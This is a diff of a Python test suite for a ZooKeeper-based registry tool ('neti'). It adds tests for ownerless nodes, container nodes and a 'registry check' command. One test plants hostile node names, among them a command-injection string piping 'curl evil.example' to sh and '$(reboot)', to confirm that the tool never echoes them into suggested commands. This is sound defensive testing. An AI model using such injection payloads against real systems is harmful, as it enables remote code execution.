@@ -42,6 +42,10 @@ def rogue(secure: SecureWorld) -> ZooKeeperRegistry:
     return secure.open_as("host-c")
 
 
+class Container(Create):  # type: ignore[misc]  # kazoo has no types
+    type = 19
+
+
 def make(
     registry: ZooKeeperRegistry,
     path: str,
@@ -191,13 +195,31 @@ def test_what_stands_in_the_way_of_a_lease_is_named_with_what_to_do(
     what, then = str(refused.value).splitlines()
     assert what.startswith(f"{prefix}/id-to-ip/squat has nodes below it")
     assert then == f"→ neti registry remove {prefix}/id-to-ip/squat"
-    make(rogue, "id-to-ip/e", b"192.168.0.9")
-    make(rogue, "ip-to-id/192.168.0.9", b"e")
-    make(rogue, "agents/e")
-    with pytest.raises(IdentityHeld, match="belongs to no session") as refused:
-        chief.release("e")
-    assert str(refused.value).endswith(f"→ neti registry remove {prefix}/agents/e")
-    assert len(chief.leases()) == 2
+    assert len(chief.leases()) == 1
+
+
+def test_a_registration_of_no_session_keeps_no_operator_from_a_lease(
+    secure: SecureWorld, rogue: ZooKeeperRegistry
+) -> None:
+    """No agent made it, and as long as it is there nobody registers."""
+    chief, overlay = secure.open_as(OPERATOR), secure.open_as("host-a").acquire("a", SUBNET)
+    nail(rogue, "agents/a")
+    assert chief.move("a", "b") == (overlay, None)
+    nail(rogue, "agents/b")
+    assert chief.release("b") == overlay
+
+
+def test_a_container_is_no_sessions_node(
+    secure: SecureWorld, rogue: ZooKeeperRegistry, tmp_path: Path
+) -> None:
+    """What it says where the session stands looks like one."""
+    rogue.inspect(
+        lambda attempt, layout: attempt.one(Container(f"{layout.root}/agents/a", b"", MINE, 4))
+    )
+    (told,) = [one for one in findings(secure, tmp_path) if one["code"] == "no-session"]
+    assert told["where"] == f"{secure.prefix}/agents/a"
+    with pytest.raises(IdentityHeld, match="that no session holds"):
+        register(secure.open_as("host-a"), "a", 1)
 
 
 def test_no_spelling_of_an_address_but_our_own_is_that_address(
@@ -325,3 +347,92 @@ def test_a_member_removes_nothing(
     result = run(secure, tmp_path, "registry", "remove", "--yes", path, stem="host-b")
     assert result.exit_code == 1
     assert "operators are CN=chief,OU=operators" in result.stderr
+
+
+# --- neti registry check ---
+
+
+def test_the_check_sees_past_what_is_in_its_way_and_names_it(
+    secure: SecureWorld, rogue: ZooKeeperRegistry, tmp_path: Path
+) -> None:
+    """Unread nodes, nailed ones, such without rights for operators: each with the command."""
+    prefix = secure.prefix
+    for path in ("agents/x", "id-to-ip/y", "ip-to-id/192.168.0.9"):
+        make(rogue, path, acl=UNREAD, ephemeral=True)
+    nail(rogue, "agents/web-1")
+    make(rogue, "agents/shut", ephemeral=True)
+    make(rogue, "ip-to-id/192.168.0.250", b"ghost", acl=[*rights.READ_ONLY])
+    told = findings(secure, tmp_path)
+    commands = {one["where"]: one["then"] for one in told if one["severity"] == "fault"}
+    for path in (
+        *("agents/x", "id-to-ip/y", "ip-to-id/192.168.0.9", "agents/web-1"),
+        "ip-to-id/192.168.0.250",
+    ):
+        assert commands[f"{prefix}/{path}"] == f"neti registry remove {prefix}/{path}"
+    (nailed,) = [one for one in told if one["code"] == "children"]
+    assert "only ZooKeeper's super user can" in nailed["what"]
+    (shut,) = [one for one in told if one["code"] == "no-rights"]
+    assert shut["nodes"] == [f"{prefix}/agents/shut"]
+    assert "registry" not in commands, "nothing ended the look"
+    for command in (*commands.values(), shut["then"]):
+        assert run(secure, tmp_path, *command.split()[1:], "--yes", stem=SUPER).exit_code == 0
+    assert [one for one in findings(secure, tmp_path) if one["severity"] == "fault"] == []
+
+
+def test_the_check_takes_no_name_for_another_and_no_honest_host_for_a_thief(
+    secure: SecureWorld, rogue: ZooKeeperRegistry, tmp_path: Path
+) -> None:
+    """Blanks around an address, quotes and blanks in an id: junk, and an honest lease stays."""
+    host = secure.open_as("host-a")
+    register(host, "a", 1)
+    overlay = host.acquire("a", SUBNET)
+    for name in (f"{overlay} ", f" {overlay}", f"{overlay}  ", f" {overlay} "):
+        make(rogue, f"ip-to-id/{name}", b"i-0ccc", ephemeral=True)
+    for name in ("x';curl evil.example|sh;'", "a ", "$(reboot)", "\u202eabc"):
+        make(rogue, f"id-to-ip/{name}", b"192.168.4.4", ephemeral=True)
+    make(rogue, "agents/--help", ephemeral=True)
+    told = findings(secure, tmp_path)
+    assert [one for one in told if one["severity"] == "fault"] == []
+    junk = {one["where"]: one for one in told if one["code"] == "junk-names"}
+    assert len(junk[f"{secure.prefix}/ip-to-id"]["nodes"]) == 4
+    text = run(secure, tmp_path, "registry", "check").stdout
+    for bad in (";curl", "$(", "\u202e", "lease release"):
+        assert bad not in "".join(line for line in text.splitlines() if "→" in line)
+    for one in junk.values():
+        assert run(secure, tmp_path, *one["then"].split()[1:], "--yes").exit_code == 0
+    assert host.leases() == {overlay: "a"}
+    assert [one for one in findings(secure, tmp_path) if one["code"] == "junk-names"] == []
+
+
+def test_a_name_too_long_to_print_is_removed_by_its_beginning(
+    secure: SecureWorld, rogue: ZooKeeperRegistry, tmp_path: Path
+) -> None:
+    make(rogue, f"agents/{'ä' * 500}")
+    make(rogue, f"agents/{'ö' * 500}")
+    make(rogue, f"agents/{'o' * 500}")
+    told = findings(secure, tmp_path)
+    (junk,) = [one for one in told if one["code"] == "junk-names"]
+    words = junk["then"].replace("'", "").split()
+    assert len(words) == 6
+    assert run(secure, tmp_path, *words[1:], "--yes").exit_code == 0
+    assert [one for one in findings(secure, tmp_path) if one["code"] == "junk-names"] == []
+
+
+def test_init_is_not_ended_by_a_node_that_it_may_not_change(
+    secure: SecureWorld, rogue: ZooKeeperRegistry, tmp_path: Path
+) -> None:
+    write = [ACL(Permissions.READ | Permissions.WRITE, Id("world", "anyone"))]
+    make(rogue, "agents/hidden", acl=UNREAD)
+    make(rogue, "agents/stuck", acl=write)
+    make(rogue, "agents/loose", acl=list(rights.OPEN))
+    result = run(secure, tmp_path, "registry", "init")
+    assert result.exit_code == 1
+    assert "1 node could not be closed" in result.stderr
+    assert not rights.harmful(rights_of(secure, "agents/loose"))
+    told = [one for one in findings(secure, tmp_path) if one["code"] == "open-nodes"]
+    assert [one["nodes"] for one in told] == [[f"{secure.prefix}/agents/stuck"]]
+
+
+def rights_of(secure: SecureWorld, path: str) -> list[Any]:
+    whole = f"{secure.prefix}/{path}"
+    return secure.open_as(OPERATOR).inspect(lambda attempt, _: attempt.acls([whole])[0])
